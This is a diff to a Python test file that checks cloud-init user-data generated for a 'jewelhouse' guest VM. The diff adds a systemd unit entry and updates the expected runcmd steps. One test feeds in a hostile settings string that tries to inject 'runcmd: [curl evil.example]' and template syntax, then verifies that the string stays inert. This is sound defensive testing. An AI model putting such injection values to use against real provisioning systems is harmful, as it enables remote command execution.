@@ -60,8 +60,9 @@ def test_the_guest_finds_its_settings_and_nobody_logs_in(host: Callable[..., Rec
     text = host().one(TEMPLATE).inputs["metadata"]["user-data"]
     assert text.startswith("#cloud-config\n")
     config = yaml.safe_load(text)
-    (settings,) = config["write_files"]
+    settings, unit = config["write_files"]
     assert settings["path"] == "/etc/jewelhouse/stage.json"
+    assert f"--settings {settings['path']}" in unit["content"]
     assert base64.b64decode(settings["content"]) == b'{"stage": "serve"}'
     assert config["users"] == []
     assert config["ssh_pwauth"] is False
@@ -72,7 +73,10 @@ def test_settings_cannot_break_out_of_the_user_data(host: Callable[..., Recordin
     hostile = '"\nruncmd: [curl evil.example]\n{{ 1 }} {% raw %}'
     config = yaml.safe_load(host(settings=hostile).one(TEMPLATE).inputs["metadata"]["user-data"])
     assert base64.b64decode(config["write_files"][0]["content"]).decode() == hostile
-    assert config["runcmd"] == [["systemctl", "start", "jewelhouse-guest.service"]]
+    assert config["runcmd"] == [
+        ["systemctl", "daemon-reload"],
+        ["systemctl", "enable", "--now", "jewelhouse-guest.service"],
+    ]
 
 
 @pytest.mark.parametrize(
